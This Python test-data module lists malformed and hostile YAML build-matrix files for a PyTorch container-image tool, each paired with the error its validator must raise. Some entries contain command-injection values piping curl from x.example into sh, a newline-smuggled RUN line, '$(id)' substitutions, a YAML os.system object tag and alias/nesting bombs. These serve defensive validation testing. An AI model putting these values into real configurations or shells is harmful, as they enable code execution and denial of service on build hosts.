"""Malformed and hostile matrix files: the table that tests/unit/plan/test_hostile_matrix.py asserts on and
tools/bench_matrix.py times. Stdlib only (the benchmark imports it without pytest).

Each case is a whole file (text or bytes), the line its error must name, the key words of the message,
and how many error lines it may print (one per distinct problem, however many targets it affects).
"""

from __future__ import annotations

from dataclasses import dataclass, field

BASE = """\
registry: 127.0.0.1:5000
repository: gpuforge/pytorch
tag_template: "{id}"
bases:
  debian12:
    bootstrap: {suite: bookworm, mirror: "http://deb.debian.org/debian"}
  ubuntu22.04: {image: "ubuntu:22.04"}
defaults:
  user: gpuforge
  uid: 1000
  size_budget_gb: 14
  apt_packages: [vim]
  pip_packages: ["rich==15.0.0"]
  pypi_url: https://pypi.org/simple
matrix:
  torch: ["2.7.1"]
  cuda: ["12.6", "12.8"]
  python: ["3.12"]
  os: [ubuntu24.04]
  flavor: [runtime, devel]
  source: [cuda-base]
  include:
    - {torch: "2.7.1", cuda: "12.6", python: "3.11", os: debian12, flavor: runtime, source: wheels}
overrides:
  - select: "flavor=devel"
    size_budget_gb: 22
default: ["os=debian12"]
"""
END = len(BASE.splitlines()) + 1  # the line of anything appended

# A second, smaller base: tests/conftest.py's BASE_MATRIX (kept equal by test_hostile_matrix.py).
SMALL = """\
registry: 127.0.0.1:5000
repository: gpuforge/pytorch
bases:
  debian12:
    bootstrap: {suite: bookworm}
matrix:
  torch: ["2.7.1"]
  cuda: ["12.6", "12.8"]
  python: ["3.12"]
  os: [ubuntu24.04]
  flavor: [runtime, devel]
  source: [cuda-base]
default: ["cuda=12.6 flavor=runtime"]
"""


@dataclass(frozen=True)
class Case:
    id: str
    text: str | bytes
    line: int  # the file:line the first error names
    wants: tuple[str, ...]  # key words of the message
    lines: int = 1  # error lines printed (distinct problems)
    files: dict = field(default_factory=dict)  # extra files beside the matrix (name -> text)


def swap(n: int, new: str) -> str:
    """BASE with line n (1-based) replaced."""
    lines = BASE.splitlines()
    lines[n - 1] = new
    return "\n".join(lines) + "\n"


def small(old: str, new: str) -> str:
    """SMALL with `old` replaced by `new` (once)."""
    assert old in SMALL, old
    return SMALL.replace(old, new, 1)


def add(text: str) -> str:
    return BASE + text


_BOMB = "".join(f"{c}: &{c} [{', '.join([f'*{p}'] * 9 if p else ['lol'] * 9)}]\n"
                for p, c in zip(["", *"abcdefgh"], "abcdefghi", strict=True))
_INC = '    - {torch: "2.7.1", cuda: "12.6", python: "3.11", os: debian12, flavor: runtime, source: wheels'

def _pool(name: str, model: str, cc: str, driver: str, runs_on: str = "[self-hosted, gpu]") -> str:
    return (f"fleet:\n  {name}:\n    gpu: {{model: {model}, capability: \"{cc}\"}}\n    drivers: [\"{driver}\"]\n"
            f"    runs_on: {runs_on}\n")


CASES = [
    # --- injection: everything that reaches a Dockerfile, a shell or a tag has a grammar
    Case("apt-shell-injection", swap(12, '  apt_packages: ["vim; curl http://x.example | sh #"]'), 12,
         ("defaults.apt_packages.0", "is not a Debian package name")),
    Case("apt-newline-instruction", swap(12, '  apt_packages: ["vim\\nRUN curl http://x.example | sh"]'), 12,
         ("defaults.apt_packages.0", "control characters", "'\\n'")),
    Case("apt-option", swap(12, '  apt_packages: ["-oAPT::Update::Pre-Invoke::=id"]'), 12, ("is not a Debian package name",)),
    Case("apt-bad-version", swap(12, '  apt_packages: ["vim=$(id)"]'), 12, ("is not a Debian version",)),
    Case("pip-shell-injection", swap(13, '  pip_packages: ["rich; curl x | sh"]'), 13,
         ("defaults.pip_packages.0", "is not a pip requirement")),
    # a 30 kB name followed by a character no requirement has: refused in linear time (was 19 s, quadratic)
    Case("pip-backtracking-bomb", swap(13, '  pip_packages: ["' + "a" * 30000 + '===x|y"]'), 13,
         ("defaults.pip_packages.0", "is not a pip requirement")),
    Case("pip-option", swap(13, '  pip_packages: ["--index-url=http://evil.example/simple"]'), 13, ("is a pip option",)),
    Case("pip-replaces-torch", swap(13, '  pip_packages: ["torch==2.6.0"]'), 13, ("would replace torch", "`torch` axis")),
    Case("pip-replaces-triton", swap(13, '  pip_packages: ["Triton>=3"]'), 13, ("would replace Triton",)),
    Case("pip-direct-url", swap(13, '  pip_packages: ["foo @ https://x.example/foo.whl"]'), 13, ("direct URL",)),
    Case("pip-moves-a-cuda-pin", swap(13, '  pip_packages: ["nvidia-cudnn-cu12==9.8.0.87"]'), 13,
         ("conflicts with nvidia-cudnn-cu12==9.5.1.17", "pins")),
    Case("pypi-url-newline", swap(14, '  pypi_url: "https://pypi.org/simple\\nRUN id"'), 14, ("defaults.pypi_url", "control characters")),
    Case("pypi-url-credentials", swap(14, "  pypi_url: https://ci:s3cret@pypi.example.com/simple"), 14,
         ("may not contain credentials", "docker history", "build secret")),
    Case("pypi-url-no-scheme", swap(14, "  pypi_url: pypi.example.com/simple"), 14, ("needs a scheme", "https://pypi.example.com/simple")),
    Case("pypi-url-ftp", swap(14, "  pypi_url: ftp://pypi.example.com/simple"), 14, ("scheme 'ftp' is not allowed", "http, https")),
    Case("index-url-extra-option", swap(14, '  index_url: "https://download.pytorch.org/whl/cu126 --trusted-host evil"'), 14,
         ("defaults.index_url", "' ' is not allowed in a URL")),
    Case("registry-with-scheme", swap(1, "registry: https://ghcr.io"), 1, ("registry", "without a scheme", "ghcr.io")),
    Case("registry-with-space", swap(1, 'registry: "ghcr.io extra"'), 1, ("is not a registry address",)),
    # an empty registry made `gpuforge/pytorch:tag` read as registry host `gpuforge` when it was split later
    Case("registry-empty", swap(1, 'registry: ""'), 1, ("registry", "an empty registry is not allowed", "HOST[:PORT]")),
    Case("registry-bare-name", swap(1, "registry: myregistry"), 1, ("is not a registry address", "a bare name would be read")),
    Case("tag-with-plus", swap(3, 'tag_template: "{id}+local"'), 3, ("tag_template", "is not a valid tag")),
    Case("tag-with-slash", swap(3, 'tag_template: "{torch}/{id}"'), 3, ("is not a valid tag",)),
    Case("tag-leading-dot", swap(3, 'tag_template: ".{id}"'), 3, ("is not a valid tag", "not starting with .")),
    Case("tag-too-long", swap(3, 'tag_template: "{id}-{id}-{id}"'), 3, ("characters; tags may have at most 123",)),
    Case("tag-format-spec-bomb", swap(3, 'tag_template: "{id:>999999999}"'), 3, ("{id:>999999999} is not allowed", "plain placeholders")),
    Case("tag-attribute-access", swap(3, 'tag_template: "{id.__class__}"'), 3, ("is not allowed",)),
    Case("tag-placeholder-typo", swap(3, 'tag_template: "{torch}-{cudatag}"'), 3,
         ("unknown placeholder {cudatag}", "perhaps you meant 'cuda_tag'")),
    # a build's version tag: version_template must name {build}, the target's tag must not (it is shared by its builds)
    Case("version-without-build", swap(3, 'tag_template: "{id}"\nversion_template: "{tag}-v1"'), 4,
         ("version_template", "must contain {build}")),
    Case("build-in-tag-template", swap(3, 'tag_template: "{id}-{build}"'), 3,
         ("tag_template", "{build} names one build", "put it in version_template")),
    Case("version-placeholder-typo", swap(3, 'tag_template: "{id}"\nversion_template: "{tag}-{biuld}"'), 4,
         ("unknown placeholder {biuld}", "perhaps you meant 'build'")),
    Case("version-too-long", swap(3, 'tag_template: "{id}-{id}"\nversion_template: "{tag}-{id}-{build}"'), 4,
         ("version_template", "characters; tags may have at most 123", "a build identifier of 16 characters")),
    Case("version-collision", swap(3, 'tag_template: "{id}"\nversion_template: "{torch}-{build}"'), 4,
         ("version_template", "would name both", "include {tag}")),
    Case("alias-invalid-tag", swap(26, '    aliases: {prod: ["latest+1"]}'), 26, ("overrides.0.aliases.prod.0", "is not a valid tag")),
    Case("alias-env-typo", swap(26, '    aliases: {prd: ["latest"]}'), 26, ("'prd' is not allowed", "perhaps you meant 'prod'")),
    Case("alias-collision", swap(26, '    aliases: {prod: ["{torch}"]}'), 3, ("would name both",)),
    # --- accepted before, broken at build time
    Case("user-root", swap(9, "  user: root"), 9, ("defaults.user", "'root' is an account or group the base image already has")),
    Case("user-system-account", swap(9, "  user: nobody"), 9, ("'nobody'", "already has")),
    Case("user-bad-grammar", swap(9, '  user: "gpu forge"'), 9, ("is not a user name",)),
    Case("include-uid", swap(23, _INC + ", uid: 0}"), 23, ("matrix.include.0.uid", "greater than or equal to 1000")),
    Case("include-user", swap(23, _INC + ', user: "Bad User"}'), 23, ("matrix.include.0.user", "is not a user name")),
    Case("include-aliases", swap(23, _INC + ', aliases: {prod: ["{nope}"]}}'), 23,
         ("matrix.include.0.aliases.prod.0", "unknown placeholder {nope}")),
    Case("size-negative", swap(11, "  size_budget_gb: -5"), 11, ("defaults.size_budget_gb", "positive, finite")),
    Case("size-zero", swap(11, "  size_budget_gb: 0"), 11, ("positive, finite",)),
    Case("size-nan", swap(11, "  size_budget_gb: .nan"), 11, ("positive, finite", "nan")),
    Case("size-inf", swap(11, "  size_budget_gb: .inf"), 11, ("positive, finite", "inf")),
    Case("suite-not-the-os", swap(6, '    bootstrap: {suite: bullseye, mirror: "http://deb.debian.org/debian"}'), 6,
         ("bases.debian12.bootstrap.suite", "'bullseye' is not debian12's (bookworm)", "another Python")),
    Case("mirror-no-scheme", swap(6, "    bootstrap: {suite: bookworm, mirror: deb.debian.org/debian}"), 6,
         ("bases.debian12.bootstrap.mirror", "needs a scheme")),
    Case("mirror-credentials", swap(6, "    bootstrap: {suite: bookworm, mirror: 'http://u:p@deb.example.org/debian'}"), 6,
         ("may not contain credentials",)),
    Case("base-image-wrong-version", swap(7, '  ubuntu22.04: {image: "ubuntu:24.04"}'), 7,
         ("bases.ubuntu22.04.image", "is not ubuntu22.04", "22.04 or jammy")),
    Case("base-image-wrong-family", swap(7, '  ubuntu22.04: {image: "debian:12"}'), 7, ("is debian, not ubuntu",)),
    Case("base-image-not-a-reference", swap(7, '  ubuntu22.04: {image: "Ubuntu:22.04; id"}'), 7, ("is not an image reference",)),
    Case("base-image-unpinned", swap(7, '  ubuntu22.04: {image: "ubuntu:latest"}'), 7, ("needs a version tag (not latest) or a digest",)),
    Case("cuda-base-without-cuda-version", add('cuda_base_image: "nvidia/cuda:{flavor}-{os}"\n'), END, ("must contain {cuda_full}",)),
    Case("cuda-base-unknown-placeholder", add('cuda_base_image: "nvidia/cuda:{cuda}-{os}"\n'), END,
         ("unknown placeholder {cuda}", "perhaps you meant 'cuda_full'")),
    Case("cuda-base-renders-invalid", add('cuda_base_image: "NVIDIA/cuda:{cuda_full}-{cudnn_tag}-{flavor}-{os}"\n'), END,
         ("cuda_base_image", "is not an image reference")),
    Case("override-matches-nothing", swap(25, '  - select: "flavor=debug"'), 25, ("overrides.0.select", "matches no target")),
    Case("override-sets-nothing", swap(26, "    size_budget_gb: 22\n  - select: os=debian12"), 27, ("sets nothing",)),
    Case("extra-ca-missing", add("extra_ca: certs/ca.pem\n"), END, ("extra_ca", "certs/ca.pem: no such file", "matrix file's folder")),
    Case("extra-ca-not-pem", add("extra_ca: ca.pem\n"), END, ("not a PEM bundle",), files={"ca.pem": "hello\n"}),
    # --- one error per mistake, at the value, with the text as written
    Case("os-typo-grouped", swap(19, "  os: [ubuntu2404]"), 19, ("matrix.os.0", "unknown os 'ubuntu2404'", "perhaps you meant 'ubuntu24.04'", "4 targets")),
    Case("python-mismatch-grouped", swap(18, '  python: ["3.11"]'), 18, ("matrix.python.0", "ships python 3.12, not 3.11", "4 targets")),
    Case("cuda-unquoted-12.10", swap(17, '  cuda: [12.10, "12.8"]'), 17, ("matrix.cuda.0", 'got 12.10', 'e.g. "12.10"')),
    Case("os-norway-no", swap(19, "  os: [no]"), 19, ("matrix.os.0", "got no (a boolean to YAML)", 'e.g. "no"')),
    Case("flavor-typo", swap(20, "  flavor: [runtime, devle]"), 20, ("'devle' is not allowed", "perhaps you meant 'devel'")),
    Case("include-missing-axes", swap(23, '    - {torch: "2.7.1", cuda: "12.6", os: debian12}'), 23, ("has no python, flavor, source",)),
    Case("exclude-empty", swap(21, "  source: [cuda-base]\n  exclude: [{}]"), 22, ("empty exclude entry",)),
    # --- hangs and resource bombs: refused quickly, at the line
    Case("alias-bomb", _BOMB + BASE, 5, ("alias bomb", "more than 10,000 values")),
    Case("alias-recursive", "a: &a [1, *a]\n" + BASE, 1, ("recursive",)),
    Case("deep-nesting", "x: " + "[" * 100_000 + "]" * 100_000 + "\n" + BASE, 1, ("nested deeper than 32",)),
    Case("ten-megabytes", BASE + "# " + "x" * 10_000_000 + "\n", 1, ("larger than 1024 KiB",)),
    Case("axes-product-explosion", swap(16, "  torch: [" + ", ".join(f'"2.{i}.0"' for i in range(60)) + "]")
         .replace('  cuda: ["12.6", "12.8"]', "  cuda: [" + ", ".join(f'"12.{i}"' for i in range(60)) + "]")
         .replace('  python: ["3.12"]', "  python: [" + ", ".join(f'"3.{i}"' for i in range(60)) + "]"), 15,
         ("multiply to 432,000 combinations", "at most 10,000")),
    Case("selector-brace-bomb", swap(27, 'default: ["' + "{a,b}" * 30 + '"]'), 27, ("braces expand to more than 1024",)),
    # --- not YAML we accept: still one line, never a traceback
    Case("non-utf8-bytes", BASE.encode().replace(b'tag_template: "{id}"', b'tag_template: "{id}\xff\xfe"'), 3,
         ("not UTF-8 text", "byte 0xff")),
    Case("control-character", swap(2, "repository: gpuforge/py\x07torch"), 2, ("control characters", "U+0007")),
    Case("python-object-tag", swap(2, "repository: !!python/object/apply:os.system [id]"), 2, ("is not allowed",)),
    Case("empty-int-tag", add("extra_ca: !!int\n"), END, ("cannot read '' as int",)),
    Case("bool-tag-not-a-word", add("extra_ca: !!bool maybe\n"), END, ("cannot read 'maybe' as bool",)),
    Case("boolean-key", add("no: 1\n"), END, ('the key no is read by YAML as a boolean', 'quote it: "no"')),
    Case("duplicate-key", add("registry: again\n"), END, ("duplicate key 'registry'",)),
    Case("two-documents", BASE + "---\nregistry: x\n", END, ("more than one YAML document",)),
    Case("bad-timestamp", add("extra_ca: 2026-13-45\n"), END, ("cannot read '2026-13-45' as timestamp",)),
    Case("repository-too-long", swap(2, "repository: " + "/".join(["a" * 60] * 5)), 2, ("longer than 255",)),
    # --- the fleet: a pool's GPU or driver that a target cannot run is refused at plan time, at the pool
    Case("fleet-cu126-on-sm120", add(_pool("rtx5090", "RTX 5090", "12.0", "575.64.03")), END + 2,
         ("fleet.rtx5090.gpu", "RTX 5090 (sm_120) cannot run torch 2.7.1+cu126", "no kernel image is available", "cu128",
          "exclude")),
    Case("fleet-driver-too-old", add(_pool("h200", "H200", "9.0", "470.57.02")), END + 3,
         ("fleet.h200.drivers.0", "driver 470.57.02 cannot run CUDA 12.6", "needs >= 525.60.13"), lines=2),
    Case("fleet-unknown-gpu", add(_pool("h300", "H300", "9.0", "580.159.04")), END + 2,
         ("fleet.h300.gpu.model", "'H300' is not in the compat data", "perhaps you meant 'H200'")),
    Case("fleet-capability-not-the-models", add(_pool("a100", "A100", "9.0", "580.159.04")), END + 2,
         ("fleet.a100.gpu.capability", "A100 has compute capability 8.0 in the compat data")),
    Case("fleet-runner-label-expression", add(_pool("h200", "H200", "9.0", "580.159.04",
                                                    runs_on='["gpu", "${{ secrets.TOKEN }}"]')), END + 4,
         ("fleet.h200.runs_on.1", "is not a runner label")),
    Case("fleet-pool-name", add(_pool("H200_pool", "H200", "9.0", "580.159.04")), END + 1, ("is not a pool name",)),
    Case("fleet-driver-grammar", add(_pool("h200", "H200", "9.0", "latest")), END + 3,
         ("fleet.h200.drivers.0", "is not an NVIDIA driver version")),
    Case("fleet-gpus-zero", add(_pool("h200", "H200", "9.0", "580.159.04") + "    gpus: 0\n"), END + 5,
         ("fleet.h200.gpus", "greater than or equal to 1")),
    Case("fleet-key-typo", add(_pool("h200", "H200", "9.0", "580.159.04") + "    gpu_count: 2\n"), END + 5,
         ("unknown key 'gpu_count'", "allowed: gpu, drivers, runs_on, gpus, exclude")),
    Case("fleet-exclude-nothing", add(_pool("h200", "H200", "9.0", "580.159.04") + '    exclude: ["cuda=11.8"]\n'),
         END + 5, ("fleet.h200.exclude.0", "excludes no target")),
    # --- shapes and values a small matrix gets wrong (tests/conftest.py's BASE_MATRIX)
    Case('not-a-mapping', "- just\n- a list\n", 1,
         ('must be a mapping',)),
    Case('bad-yaml', "matrix: [unclosed\n", 2,
         ('not valid YAML',)),
    Case('unknown-top-key', SMALL + "regsitry: x\n", 14,
         ('regsitry', "perhaps you meant 'registry'")),
    Case('unknown-axis-key', small("  flavor: [runtime, devel]", "  flavour: [runtime, devel]"), 11,
         ('matrix.flavour', "perhaps you meant 'flavor'")),
    Case('float-cuda', small('cuda: ["12.6", "12.8"]', "cuda: [12.6, 12.8]"), 8,
         ('matrix.cuda.0', 'quote version numbers, e.g. "12.6"'), lines=2),
    Case('axis-not-list', small('torch: ["2.7.1"]', 'torch: "2.7.1"'), 7,
         ('matrix.torch', 'valid list')),
    Case('bad-flavor', small("flavor: [runtime, devel]", "flavor: [runtime, debug]"), 11,
         ('matrix.flavor.1', "'debug' is not allowed", 'runtime')),
    Case('bad-source', small("source: [cuda-base]", "source: [conda]"), 12,
         ('matrix.source.0', "'conda'")),
    Case('missing-matrix', "default: [x]\n", 1,
         ('matrix: required field is missing',)),
    Case('missing-default', SMALL.replace('default: ["cuda=12.6 flavor=runtime"]\n', ""), 1,
         ('default: required field is missing',)),
    Case('default-matches-nothing', small('default: ["cuda=12.6 flavor=runtime"]', 'default: ["cuda=12.4"]'), 13,
         ('default', 'cuda=12.4 matches no target')),
    Case('cuda-not-published', small('cuda: ["12.6", "12.8"]', 'cuda: ["12.4"]'), 8,
         ('torch 2.7.1 publishes no CUDA 12.4 variant (allowed: 11.8, 12.6, 12.8)',)),
    Case('unknown-torch', small('torch: ["2.7.1"]', 'torch: ["2.6.9"]'), 7,
         ('torch 2.6.9 is not a known release (allowed: 2.7.0, 2.7.1)',)),
    Case('python-os-mismatch', small('python: ["3.12"]', 'python: ["3.11"]'), 9,
         ('ubuntu24.04 ships python 3.12, not 3.11',)),
    Case('python-unsupported-by-torch', small('python: ["3.12"]', 'python: ["3.8"]'), 9,
         ('torch 2.7.1 does not support python 3.8',), lines=2),
    Case('cuda-base-tag-missing', small("os: [ubuntu24.04]", "os: [debian12]").replace('python: ["3.12"]', 'python: ["3.11"]'), 10,
         ('nvidia/cuda:12.6.3-cudnn-runtime-debian12 does not exist', 'use source: wheels for debian12'), lines=4),
    Case('unknown-os', small("os: [ubuntu24.04]", "os: [centos7]"), 10,
         ("unknown os 'centos7'",)),
    Case('duplicate-target', small('cuda: ["12.6", "12.8"]', 'cuda: ["12.6", "12.6"]'), 8,
         ('matrix.cuda.1', '"12.6" is listed twice')),
    Case('small-duplicate-key', SMALL + "registry: again\n", 14,
         ("duplicate key 'registry'",)),
    Case('include-unknown-key', SMALL.replace("default:", "  include:\n    - {cudaa: \"12.6\"}\ndefault:"), 14,
         ('matrix.include.0.cudaa', "unknown key 'cudaa'")),
    Case('include-incomplete', SMALL.replace("default:", "  include:\n    - {torch: \"2.7.1\", cuda: \"12.6\", os: debian12}\ndefault:"), 14,
         ('has no python, flavor, source',)),
    Case('exclude-nothing', SMALL.replace("default:", "  exclude:\n    - {cuda: \"12.9\"}\ndefault:"), 14,
         ('excludes nothing',)),
    Case('include-float', SMALL.replace("default:", "  include:\n    - {cuda: 12.6, size_budget_gb: 3}\ndefault:"), 14,
         ('matrix.include.0.cuda', 'quote version numbers')),
    Case('bad-user', SMALL + "defaults: {user: Root!}\n", 14,
         ('defaults.user', "'Root!' is not a user name")),
    Case('low-uid', SMALL + "defaults: {uid: 0}\n", 14,
         ('defaults.uid', 'greater than or equal to 1000')),
    Case('base-both', small("    bootstrap: {suite: bookworm}", "    bootstrap: {suite: bookworm}\n    image: debian:12"), 4,
         ('exactly one of `image:`',)),
    Case('bootstrap-unknown-key', small("bootstrap: {suite: bookworm}", "bootstrap: {suite: bookworm, mirrror: x}"), 5,
         ('bases.debian12.bootstrap.mirrror', "perhaps you meant 'mirror'")),
    Case('base-unknown-os', small("  debian12:\n", "  debian13:\n"), 4,
         ('bases.debian13: unknown os',)),
    Case('override-bad-selector', SMALL + 'overrides:\n  - {select: "gpu=h100", size_budget_gb: 9}\n', 15,
         ('overrides.0.select', "unknown key 'gpu'")),
    Case('tag-template-placeholder', small("repository: gpuforge/pytorch", "repository: gpuforge/pytorch\ntag_template: \"{torch}-{arch}\""), 3,
         ('unknown placeholder {arch}',)),
    Case('bad-repository', small("repository: gpuforge/pytorch", "repository: GPUForge/PyTorch"), 2,
         ('repository', 'is not a repository name')),
]

